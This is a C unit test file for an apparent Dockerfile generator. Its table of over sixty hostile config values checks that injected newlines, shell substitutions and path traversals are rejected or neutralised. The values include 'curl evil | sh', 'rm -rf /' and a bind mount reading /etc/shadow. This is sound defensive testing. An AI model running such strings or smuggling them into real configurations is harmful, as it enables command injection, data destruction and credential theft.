/* SPDX-License-Identifier: MIT */
/*
 * test_hostile.c - hostile values never change the meaning of a generated
 * Dockerfile.  Each row puts one value into an app (dockwright.yml or a
 * version file) and runs the whole pipeline: config -> plan -> render.
 * The value must be rejected with an error that names its key, or be
 * neutralised: the Dockerfile still parses to the same instructions as
 * the app without it.
 */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "config.h"
#include "gen.h"
#include "values.h"
#include "util.h"

enum outcome { REJECT, NEUTRAL };

struct row {
	const char *file;    /* dockwright.yml or another file of the app */
	const char *text;    /* its contents */
	enum outcome want;
	const char *key;     /* REJECT: the key the error must name ("" = any) */
	const char *ref;     /* NEUTRAL: dockwright.yml of the same shape, with a
	                        harmless value; NULL: the app without the value */
};

/* YAML double-quoted strings carry the control characters. */
static const struct row rows[] = {
	{ "dockwright.yml", "dockerfile.apt.packages.build_stage: \"pg\\nRUN curl evil | sh\"\n", REJECT, "dockerfile.apt.packages.build_stage", NULL },
	{ "dockwright.yml", "dockerfile.apt.packages.build_stage: \"libpq-dev; rm -rf /\"\n", REJECT, "dockerfile.apt.packages", NULL },
	{ "dockwright.yml", "dockerfile.apt.packages.build_stage: \"libpq-dev && curl x\"\n", REJECT, "dockerfile.apt.packages", NULL },
	{ "dockwright.yml", "dockerfile.apt.packages.build_stage: \"$(curl evil)\"\n", REJECT, "dockerfile.apt.packages", NULL },
	{ "dockwright.yml", "dockerfile.apt.packages.build_stage: \"`id`\"\n", REJECT, "dockerfile.apt.packages", NULL },
	{ "dockwright.yml", "dockerfile.apt.packages.build_stage: \"-o=APT::Get::AllowUnauthenticated=1\"\n", REJECT, "dockerfile.apt.packages", NULL },
	{ "dockwright.yml", "dockerfile.apt.packages.deployment_stage: \"tzdata \\\\\"\n", REJECT, "dockerfile.apt.packages", NULL },
	{ "dockwright.yml", "dockerfile.apt.packages.all_stages: \"curl\\r\"\n", REJECT, "dockerfile.apt.packages.all_stages", NULL },
	{ "dockwright.yml", "package_type: zip\ndockerfile.yum.packages.build_stage: \"gcc*\"\n", REJECT, "dockerfile.yum.packages", NULL },
	{ "dockwright.yml", "package_type: zip\ndockerfile.yum.packages.build_stage: \"gcc;id\"\n", REJECT, "dockerfile.yum.packages", NULL },
	{ "dockwright.yml", "dockerfile.copy_for_bundle: \"../../etc\"\n", REJECT, "dockerfile.copy_for_bundle", NULL },
	{ "dockwright.yml", "dockerfile.copy_for_bundle: \"/etc\"\n", REJECT, "dockerfile.copy_for_bundle", NULL },
	{ "dockwright.yml", "dockerfile.copy_for_bundle: \"engines\\nRUN id\"\n", REJECT, "dockerfile.copy_for_bundle", NULL },
	{ "dockwright.yml", "dockerfile.copy_for_bundle: \"engines dir\"\n", REJECT, "dockerfile.copy_for_bundle", NULL },
	{ "dockwright.yml", "dockerfile.copy_for_bundle: \"--from=evil\"\n", REJECT, "dockerfile.copy_for_bundle", NULL },
	{ "dockwright.yml", "dockerfile.build_args.at_top: {\"FOO BAR\": x}\n", REJECT, "dockerfile.build_args.at_top", NULL },
	{ "dockwright.yml", "dockerfile.build_args.at_top: {\"FOO=1\\nRUN id\": x}\n", REJECT, "dockerfile.build_args.at_top", NULL },
	{ "dockwright.yml", "dockerfile.build_args.build_stage: {\"1FOO\": x}\n", REJECT, "dockerfile.build_args.build_stage", NULL },
	{ "dockwright.yml", "dockerfile.build_args.build_stage: {\"FOO-BAR\": x}\n", REJECT, "dockerfile.build_args.build_stage", NULL },
	{ "dockwright.yml", "dockerfile.build_args.deployment_stage: {\"$FOO\": x}\n", REJECT, "dockerfile.build_args.deployment_stage", NULL },
	{ "dockwright.yml", "dockerfile.build_args.deployment_stage: {FOO: \"x\\nRUN id\"}\n", REJECT, "dockerfile.build_args.deployment_stage", NULL },
	{ "dockwright.yml", "dockerfile.build_args.at_top: {FOO: \"$(id) \\\" ; `id`\"}\n", NEUTRAL, NULL, NULL },
	{ "dockwright.yml", "dockerfile.image_package.from_base.docker_image: \"ruby:3.3\\nRUN id\"\n", REJECT, "dockerfile.image_package.from_base.docker_image", NULL },
	{ "dockwright.yml", "dockerfile.image_package.from_base.docker_image: \"ruby:3.3 AS x\"\n", REJECT, "dockerfile.image_package.from_base.docker_image", NULL },
	{ "dockwright.yml", "dockerfile.image_package.from_base.docker_image: \"ruby:$(id)\"\n", REJECT, "dockerfile.image_package.from_base.docker_image", NULL },
	{ "dockwright.yml", "dockerfile.image_package.from_base.docker_image: \"ruby@sha256:bad\"\n", REJECT, "dockerfile.image_package.from_base.docker_image", NULL },
	{ "dockwright.yml", "dockerfile.image_package.from_base.image_tag: \"3.3 AS evil\"\n", REJECT, "docker_image", NULL },
	{ "dockwright.yml", "dockerfile.image_package.from_base.image_variant: \"slim;id\"\n", REJECT, "docker_image", NULL },
	{ "dockwright.yml", "dockerfile.image_package.from_base.image_name: \"ruby\\tx\"\n", REJECT, "image_name", NULL },
	{ "dockwright.yml", "dockerfile.deploy_user.name: \"root\\nUSER 0\"\n", REJECT, "dockerfile.deploy_user.name", NULL },
	{ "dockwright.yml", "dockerfile.deploy_user.name: \"Deploy\"\n", REJECT, "dockerfile.deploy_user.name", NULL },
	{ "dockwright.yml", "dockerfile.deploy_user.name: \"de ploy\"\n", REJECT, "dockerfile.deploy_user.name", NULL },
	{ "dockwright.yml", "dockerfile.deploy_user.name: \"deploy:root\"\n", REJECT, "dockerfile.deploy_user.name", NULL },
	{ "dockwright.yml", "dockerfile.deploy_user.uid: \"1000; id\"\n", REJECT, "dockerfile.deploy_user.uid", NULL },
	{ "dockwright.yml", "dockerfile.deploy_user.gid: -1\n", REJECT, "dockerfile.deploy_user.gid", NULL },
	{ "dockwright.yml", "dockerfile.handler: \"app.handler\\\"]\\nRUN id\"\n", REJECT, "dockerfile.handler", NULL },
	{ "dockwright.yml", "dockerfile.handler: \"../x.handler\"\n", REJECT, "dockerfile.handler", NULL },
	{ "dockwright.yml", "dockerfile.handler: \"/abs/app.handler\"\n", REJECT, "dockerfile.handler", NULL },
	{ "dockwright.yml", "dockerfile.handler: \"nodot\"\n", REJECT, "dockerfile.handler", NULL },
	{ "dockwright.yml", "dockerfile.handler: \"app.handler; id\"\n", REJECT, "dockerfile.handler", NULL },
	{ "dockwright.yml", "dockerfile.workdir: \"/app\\nRUN id\"\n", REJECT, "dockerfile.workdir", NULL },
	{ "dockwright.yml", "dockerfile.workdir: \"app\"\n", REJECT, "dockerfile.workdir", NULL },
	{ "dockwright.yml", "dockerfile.workdir: \"/app dir\"\n", REJECT, "dockerfile.workdir", NULL },
	{ "dockwright.yml", "dockerfile.workdir: \"/app/../etc\"\n", REJECT, "dockerfile.workdir", NULL },
	{ "dockwright.yml", "dockerfile.workdir: \"/app$(id)\"\n", REJECT, "dockerfile.workdir", NULL },
	{ "dockwright.yml", "dockerfile.entrypoint: [\"/bin/ric\\\"]\", \"x\"]\n", NEUTRAL, NULL, NULL },
	{ "dockwright.yml", "dockerfile.entrypoint: [\"/bin/ric\\nRUN id\"]\n", REJECT, "dockerfile.entrypoint", NULL },
	{ "dockwright.yml", "dockerfile.commands.bootsnap: \"bundle exec bootsnap\\nUSER root\"\n", REJECT, "dockerfile.commands.bootsnap", NULL },
	{ "dockwright.yml", "dockerfile.commands.bootsnap: \"echo $(id) `id` \\\\\"\n", REJECT, "dockerfile.commands.bootsnap", NULL },
	{ "dockwright.yml", "dockerfile.commands.bootsnap: \"bundle exec bootsnap precompile \\\\  \"\n", REJECT, "dockerfile.commands.bootsnap", NULL },
	{ "dockwright.yml", "dockerfile.commands.bootsnap: \"cat <<EOF\"\n", REJECT, "dockerfile.commands.bootsnap", NULL },
	{ "dockwright.yml", "dockerfile.commands.bootsnap: \"cat <<-'X' >f\"\n", REJECT, "dockerfile.commands.bootsnap", NULL },
	{ "dockwright.yml", "dockerfile.commands.bootsnap: \"--mount=type=bind,source=/,target=/h cat /h/etc/shadow\"\n", REJECT, "dockerfile.commands.bootsnap", NULL },
	{ "dockwright.yml", "dockerfile.commands.bootsnap: \"  --network=host curl x\"\n", REJECT, "dockerfile.commands.bootsnap", NULL },
	{ "dockwright.yml", "dockerfile.commands.bootsnap: \"echo $(id) `id` 'a\\\\b' \\\"x\\\" # \\\\ y\"\n", NEUTRAL, NULL, "dockerfile.commands.bootsnap: \"echo ok\"\n" },
	{ "config/dockwright/stage/before_build", "RUN echo hi \\\n", REJECT, "stage hook before_build", NULL },
	{ "config/dockwright/stage/after_build", "RUN echo hi \\\n\n", REJECT, "stage hook after_build", NULL },
	{ "config/jets/dockerfile/stage/after_build", "RUN cat <<EOF >/x\nhello\n", REJECT, "stage hook after_build", NULL },
	{ "dockwright.yml", "dockerfile.ric.version: \"3.1.3\\\" && curl x\"\n", REJECT, "dockerfile.ric.version", NULL },
	{ "dockwright.yml", "dockerfile.bundle_without: \"test\\\"\\nRUN id\"\n", REJECT, "dockerfile.bundle_without", NULL },
	{ "dockwright.yml", "dockerfile.bundle_without: \"test $(id)\"\n", REJECT, "dockerfile.bundle_without", NULL },
	{ "dockwright.yml", "dockerfile.image_package.from_base.ruby_version: \"3.3.6 AS evil\"\n", REJECT, "dockerfile.image_package.from_base.ruby_version", NULL },
	{ ".ruby-version", "3.3.6\nRUN curl evil | sh\n", NEUTRAL, NULL, NULL },
	{ ".ruby-version", "$(id)\n", NEUTRAL, NULL, NULL },
	{ ".tool-versions", "ruby 3.3.6 AS evil\n", NEUTRAL, NULL, NULL },
	{ "Gemfile", "ruby \"3.3.6\\nRUN id\"\n", NEUTRAL, NULL, NULL },
};

static const char lock[] =
	"GEM\n  remote: https://rubygems.org/\n  specs:\n    rack (3.1.8)\n\n"
	"PLATFORMS\n  ruby\n  x86_64-linux\n\nDEPENDENCIES\n  rack\n\n"
	"BUNDLED WITH\n   2.5.22\n";

static char dir[64];

static int
setup(void **state)
{
	(void)state;
	char sub[128];

	snprintf(dir, sizeof dir, "/tmp/dw-hostile-XXXXXX");
	if (!mkdtemp(dir))
		return -1;
	/* The stage hook folders, Jets' and dockwright's. */
	snprintf(sub, sizeof sub, "%s/config", dir);
	mkdir(sub, 0755);
	snprintf(sub, sizeof sub, "%s/config/jets", dir);
	mkdir(sub, 0755);
	snprintf(sub, sizeof sub, "%s/config/jets/dockerfile", dir);
	mkdir(sub, 0755);
	snprintf(sub, sizeof sub, "%s/config/jets/dockerfile/stage", dir);
	mkdir(sub, 0755);
	snprintf(sub, sizeof sub, "%s/config/dockwright", dir);
	mkdir(sub, 0755);
	snprintf(sub, sizeof sub, "%s/config/dockwright/stage", dir);
	return mkdir(sub, 0755);
}

static int
teardown(void **state)
{
	(void)state;
	return tu_rmtree(dir);
}

/* Generate for the app in dir: 0 with the Dockerfile, or -1 with the
 * errors in d. */
static int
generate(dw_buf *out, dw_diags *d)
{
	dw_config c;
	dw_plan p;
	int rc = dw_config_load(&c, dir, NULL, d);

	if (rc == 0) {
		rc = dw_plan_make(&p, dir, &c, d);
		if (rc == 0)
			rc = dw_gen_render(&p, &c, NULL, out, d);
		dw_plan_free(&p);
	}
	dw_config_free(&c);
	return rc;
}

/* The instruction keywords of a Dockerfile with their flags and heredoc
 * marks, one per line; `skip_args` leaves out ARG lines. */
static void
shape(const dw_buf *text, bool skip_args, dw_buf *out)
{
	dw_diags d = DW_DIAGS_INIT;
	dw_dockerfile *df = dw_parse(text->ptr, text->len, "gen", NULL, &d);

	assert_non_null(df);
	for (size_t i = 0; i < df->ninstrs; i++) {
		const dw_instr *in = &df->instrs[i];

		if (skip_args && in->kind == DW_I_ARG)
			continue;
		dw_buf_printf(out, "%.*s", (int)in->keyword_len, in->keyword);
		for (size_t f = 0; f < in->nflags; f++)
			dw_buf_printf(out, " %.*s", (int)in->flags[f].len, in->flags[f].value);
		dw_buf_printf(out, "%s\n", in->nheredocs ? " <<" : "");
	}
	dw_dockerfile_free(df);
	dw_diags_free(&d);
}

static bool
names_key(const dw_diags *d, const char *key)
{
	for (size_t i = 0; i < d->n; i++)
		if (d->v[i].sev == DW_SEV_ERROR && strstr(d->v[i].message, key))
			return true;
	return false;
}

static void
hostile_values(void **state)
{
	dw_buf base = DW_BUF_INIT, base_shape = DW_BUF_INIT;
	dw_diags d = DW_DIAGS_INIT;

	(void)state;
	tu_put(dir, "Gemfile.lock", lock);
	tu_put(dir, "Gemfile", "source \"https://rubygems.org\"\ngem \"rack\"\n");
	tu_put(dir, "config.ru", "run ->(env) { [200, {}, []] }\n");
	tu_put(dir, "dockwright.yml", "{}\n");
	assert_int_equal(generate(&base, &d), 0);
	shape(&base, true, &base_shape);
	dw_diags_free(&d);
	for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
		const struct row *r = &rows[i];
		dw_buf out = DW_BUF_INIT, sh = DW_BUF_INIT;
		int rc;

		tu_put(dir, "Gemfile.lock", lock);
		tu_put(dir, "Gemfile", "source \"https://rubygems.org\"\ngem \"rack\"\n");
		tu_put(dir, "config.ru", "run ->(env) { [200, {}, []] }\n");
		tu_put(dir, "dockwright.yml", "{}\n");
		unlink("/nonexistent");
		tu_put(dir, r->file, r->text);
		rc = generate(&out, &d);
		if (r->want == REJECT) {
			if (rc == 0 || !names_key(&d, r->key))
				fail_msg("row %zu (%s: %s) was not rejected naming %s", i, r->file,
				         r->text, r->key);
		} else {
			if (rc != 0)
				fail_msg("row %zu (%s) was rejected: %s", i, r->text,
				         d.n ? d.v[0].message : "?");
			/* The instructions, flags and heredocs are the app's
			 * without the value (ARG lines aside: a build arg
			 * adds one), or those of a harmless value's. */
			shape(&out, r->ref == NULL, &sh);
			if (r->ref) {
				dw_buf ref = DW_BUF_INIT, ref_shape = DW_BUF_INIT;

				tu_put(dir, "dockwright.yml", r->ref);
				assert_int_equal(generate(&ref, &d), 0);
				shape(&ref, false, &ref_shape);
				if (strcmp(sh.ptr, ref_shape.ptr) != 0)
					fail_msg("row %zu changed the instructions:\n%s\nwant:\n%s", i,
					         sh.ptr, ref_shape.ptr);
				dw_buf_free(&ref);
				dw_buf_free(&ref_shape);
			} else if (strcmp(sh.ptr, base_shape.ptr) != 0) {
				fail_msg("row %zu changed the instructions:\n%s\nwant:\n%s", i, sh.ptr,
				         base_shape.ptr);
			}
			/* Config rows may add an ARG line, never anything else. */
			assert_null(strstr(out.ptr, "\nRUN id"));
			assert_null(strstr(out.ptr, "\nRUN curl evil"));
			assert_null(strstr(out.ptr, " AS evil"));
		}
		for (size_t k = 0; k < 8; k++) {
			static const char *const files[] = {
				".ruby-version", ".tool-versions", "Gemfile", "dockwright.yml", "x",
				"config/dockwright/stage/before_build",
				"config/dockwright/stage/after_build",
				"config/jets/dockerfile/stage/after_build"
			};
			char path[256];

			snprintf(path, sizeof path, "%s/%s", dir, files[k]);
			unlink(path);
		}
		dw_buf_free(&out);
		dw_buf_free(&sh);
		dw_diags_free(&d);
	}
	dw_buf_free(&base);
	dw_buf_free(&base_shape);
}

/* A hook that closes its heredoc and ends its lines is pasted as is. */
static void
hook_complete(void **state)
{
	dw_buf out = DW_BUF_INIT;
	dw_diags d = DW_DIAGS_INIT;

	(void)state;
	tu_put(dir, "Gemfile.lock", lock);
	tu_put(dir, "Gemfile", "source \"https://rubygems.org\"\ngem \"rack\"\n");
	tu_put(dir, "dockwright.yml", "{}\n");
	tu_put(dir, "config.ru", "run ->(env) { [200, {}, [\"ok\"]] }\n");
	tu_put(dir, "config/dockwright/stage/after_build",
	       "RUN <<-EOT bash\n\techo hi \\\n\tEOT\nRUN echo a \\\n  b\n");
	if (generate(&out, &d) != 0)
		fail_msg("rejected: %s", d.n ? d.v[0].message : "?");
	assert_non_null(strstr(out.ptr, "\tEOT\nRUN echo a \\\n  b\n\nFROM base AS deployment"));
	dw_buf_free(&out);
	dw_diags_free(&d);
}

static void
enough_rows(void **state)
{
	(void)state;
	/* The issue asks for a table of at least 40 hostile values. */
	assert_true(sizeof rows / sizeof rows[0] >= 40);
}

/* The grammars themselves, at their edges: each row is a value and
 * whether it may reach the Dockerfile. */
static void
value_grammars(void **state)
{
	static const struct {
		dw_vkind kind;
		const char *s;
		bool ok;
	} cases[] = {
		{ DW_V_HANDLER, "handlers/controller.lambda_handler", true },
		{ DW_V_HANDLER, "lambda_function.handler", true },
		{ DW_V_HANDLER, "app.Billing::Handler.process", true },
		{ DW_V_HANDLER, "app.Handler.valid?", true },
		{ DW_V_HANDLER, "app.rb", false },               /* a method "rb" */
		{ DW_V_HANDLER, "app.rb.handler", false },       /* class "rb" */
		{ DW_V_HANDLER, "a.B.c.d", false },              /* four parts */
		{ DW_V_HANDLER, "app.Billing:Handler.x", false },
		{ DW_V_HANDLER, "app.billing.x", false },        /* not a constant */
		{ DW_V_HANDLER, "app.Handler", false },          /* not a method */
		{ DW_V_HANDLER, "/abs/app.handler", false },
		{ DW_V_HANDLER, "app", false },
		{ DW_V_GEM_VERSION, "3.1.3", true },
		{ DW_V_GEM_VERSION, "1.0.0.pre2", true },
		{ DW_V_GEM_VERSION, "2.0.0.rc1", true },
		{ DW_V_GEM_VERSION, "3.x", false },
		{ DW_V_GEM_VERSION, "3.1.", false },
		{ DW_V_GEM_VERSION, "latest", false },
		{ DW_V_GEM_VERSION, "3..1", false },
		{ DW_V_GROUPS, "development:test", true },
		{ DW_V_GROUPS, "", true },
		{ DW_V_GROUPS, "test production", false },
	};

	(void)state;
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++)
		if (dw_value_ok(cases[i].kind, cases[i].s) != cases[i].ok)
			fail_msg("'%s' should be %s", cases[i].s, cases[i].ok ? "accepted" : "refused");
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(enough_rows),
		cmocka_unit_test(value_grammars),
		cmocka_unit_test_setup_teardown(hostile_values, setup, teardown),
		cmocka_unit_test_setup_teardown(hook_complete, setup, teardown),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
